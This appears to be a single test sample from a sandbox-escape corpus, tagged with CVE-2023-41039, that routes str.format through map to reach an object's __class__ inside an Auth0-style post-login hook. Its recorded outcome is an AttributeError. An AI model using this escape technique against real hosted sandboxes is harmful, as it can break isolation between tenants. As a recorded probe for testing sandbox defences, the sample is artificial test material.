# origin: CVE-2023-41039
# technique: map calls the class's format
# goal: language
# outcome: RAISED:AttributeError

def on_execute_post_login(event, api):
    api.user.set_app_metadata("escaped", str(list(map(str.format, ["{0.__class__}"], [1]))))
